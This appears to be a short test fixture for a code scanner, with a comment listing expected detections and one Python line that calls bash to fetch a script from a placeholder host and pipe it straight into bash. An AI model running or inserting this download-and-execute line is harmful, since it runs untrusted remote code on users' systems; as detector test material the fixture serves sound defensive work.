# expect: sh-download-exec,py-exec-shell
import subprocess
subprocess.call(['bash', '-c', 'wget -qO- http://x.example/i | bash'])
